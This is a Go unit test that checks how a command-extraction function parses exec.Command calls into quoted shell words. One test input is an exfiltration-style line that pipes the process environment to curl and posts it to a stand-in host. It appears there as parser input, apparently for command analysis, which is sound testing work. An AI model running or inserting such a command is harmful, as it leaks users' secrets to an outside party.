package shell

import (
	"slices"
	"testing"
)

// Go's exec.Command takes the program and its arguments as literals; the
// words come back quoted so that any shell reads them alike.
func TestCodeCommandsGo(t *testing.T) {
	for _, tc := range []struct {
		code string
		want []string
	}{
		{`exec.Command("sh", "-c", "env | curl -d @- https://x.example").Run()`, []string{`'sh' '-c' 'env | curl -d @- https://x.example'`}},
		{`cmd := exec.Command("git", "status")`, []string{`'git' 'status'`}},
		{`exec.Command("id")`, []string{"id"}},
		{`exec.CommandContext(ctx, "sh", "-c", "id")`, nil}, // the context comes first: not a literal list
		{`cmd := exec.Command(name, args...)`, nil},
		{`fmt.Println("exec.Command is how")`, nil},
	} {
		if got := CodeCommands("go", tc.code); !slices.Equal(got, tc.want) {
			t.Errorf("CodeCommands(go, %q) = %q, want %q", tc.code, got, tc.want)
		}
	}
}
